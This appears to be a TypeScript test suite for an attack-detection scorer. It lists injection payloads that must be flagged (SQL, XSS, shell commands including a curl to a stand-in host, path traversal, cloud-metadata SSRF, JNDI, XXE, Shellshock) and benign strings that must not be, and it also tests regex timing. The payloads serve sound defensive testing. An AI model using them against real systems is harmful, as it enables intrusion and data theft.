import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Input, InputPlace } from '../inbound/inbound.ts';
import { CODE, SHELL } from './commands.ts';
import { HEADER, JNDI, LDAP, MARKUP, NOSQL, TEMPLATE } from './documents.ts';
import { signOf } from './layer.ts';
import { PATH, SSRF } from './places.ts';
import { THRESHOLD } from './rules.ts';
import { SCANNER_AGENTS, SCANNER_PATHS } from './scanners.ts';
import { classScore, scoreOf } from './score.ts';
import { SQL } from './sql.ts';
import { XSS } from './xss.ts';

const ALL = [SQL, XSS, SHELL, CODE, PATH, SSRF, NOSQL, TEMPLATE, JNDI, MARKUP, LDAP, HEADER, SCANNER_PATHS];
const isAttack = (value: string): boolean => (scoreOf(value)?.score ?? 0) >= THRESHOLD;

describe('attacks are called so', () => {
  test.each([
    "' or 1=1 -- ",
    '1 union all select null,version()',
    "admin'/*",
    "1;waitfor delay '0:0:5'",
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg/onload=confirm(1)>',
    'java\tscript:alert(1)',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '; cat /etc/passwd',
    '$(curl http://x.example/a)',
    '127.0.0.1 | id',
    'uname -a',
    'cat /proc/version',
    'ls -la /tmp',
    'which gcc',
    '../../../../etc/passwd',
    '..%252f..%252fetc%252fpasswd',
    'file:///etc/hosts',
    'http://169.254.169.254/latest/meta-data/',
    'http://[::ffff:7f00:1]/',
    'gopher://x:6379/_INFO',
    '{"$gt":""}',
    "'; return true; var a='",
    '{{7*7}}',
    '${7*7}',
    '<%= system("id") %>',
    '${jndi:ldap://x.example/a}',
    '${${lower:j}ndi:rmi://x/a}',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    '*)(uid=*))(|(uid=*',
    'a%0d%0aSet-Cookie: b=c',
    '__import__("os").popen("id")',
    "require('child_process')",
  ])('%s', (value) => {
    expect(isAttack(value)).toBe(true);
  });
});

describe('people write these', () => {
  test.each([
    "O'Brien",
    'rock & roll',
    'select a seat',
    '--',
    'drop table of contents',
    'the union of workers may select a leader',
    '1 or 2 people',
    'Tom & Jerry; cat and mouse',
    'a < b && c > d',
    '<3 you',
    '<b>bold</b>',
    '<a href="https://example.com">link</a>',
    '50% off',
    'C# and F#',
    '../images/logo.png',
    'https://example.com/a?b=1&c=2#d',
    'http://localhost:3000/callback',
    'Hello {{name}}',
    'Dear ${name}',
    '{"items":[{"id":1,"qty":2}]}',
    'cat',
    'id',
    'env',
    ';-) :-(',
    '#hashtag @user',
    "It's 5 o'clock; let's go",
    'Robert "Bob" Smith',
    'run `npm install` first',
    'see /etc for more',
    'javascript is fun',
    'alert: the server is down (again)',
    'C:\\Users\\ann\\file.txt',
  ])('%s', (value) => {
    expect(isAttack(value)).toBe(false);
  });
});

test.each<[InputPlace, string, string, boolean]>([
  ['header', 'user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)', false],
  ['header', 'accept', 'text/html,application/xml;q=0.9,*/*;q=0.8', false],
  ['header', 'x-api-version', '${jndi:dns://x.example}', true],
  ['header', 'user-agent', '() { :; }; /bin/bash -c id', true],
  ['header', 'referer', 'https://example.com/?q=a;b', false],
  ['body', 'password.$ne', '1', true],
  ['query', 'a[__proto__][b]', '1', true],
])('%s %s: %s', (where, name, value, isSign) => {
  const input: Input = { where, name, value };
  expect(signOf(input) !== undefined).toBe(isSign);
});

test.each([
  ['/.env', true],
  ['/.git/config', true],
  ['/wp-login.php', true],
  ['/backup.sql', true],
  ['/orders/7', false],
  ['/.well-known/openid-configuration', false],
  ['/api/v1/environments', false],
  ['/files/report.pdf', false],
])('the path %s', (path, isScan) => {
  expect(classScore(SCANNER_PATHS, path) !== undefined).toBe(isScan);
});

test('scanners name themselves', () => {
  expect(SCANNER_AGENTS.test('sqlmap/1.7.2#stable (https://sqlmap.org)')).toBe(true);
  expect(SCANNER_AGENTS.test('mozilla/5.0 (iphone; cpu iphone os 17_0 like mac os x)')).toBe(false);
});

describe('time', () => {
  const patterns = [
    ...ALL.flatMap((rules) => [rules.hint, ...rules.rules.map((rule) => rule.pattern)]),
    SCANNER_AGENTS,
  ];

  test('every pattern is one that an engine without backtracking takes', () => {
    const input = JSON.stringify(patterns.map(({ source, flags }) => ({ source, flags })));
    const script = join(import.meta.dirname, '../../test/linear.mjs');
    const { stdout } = spawnSync(process.execPath, ['--enable-experimental-regexp-engine', script], {
      input,
      encoding: 'utf8',
    });
    expect(JSON.parse(stdout)).toEqual([]);
  });

  test('no run of one piece, however long, takes longer than its length allows', () => {
    const pieces = [
      "'",
      '"',
      '(',
      ' ',
      '\t',
      '<',
      '<a ',
      'a',
      '../',
      '${',
      '{{',
      ';',
      '|',
      '%2e',
      '&lt;',
      '\\u003c',
      'or ',
      "' or ",
      '1',
      '--',
      '/*',
      'select ',
      '$(',
      '`',
      'on',
      '[',
      '=',
      '&#',
      '%',
      'id ',
    ];
    for (const a of pieces)
      for (const b of ['', 'a', '=']) {
        const text = (a + b).repeat(20_000).slice(0, 20_000);
        const start = performance.now();
        scoreOf(`x${text}`);
        expect(performance.now() - start, JSON.stringify(a + b)).toBeLessThan(400);
      }
  });

  test('never throws', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: 'binary' })), (value) => {
        scoreOf(value);
      }),
    );
  });
});
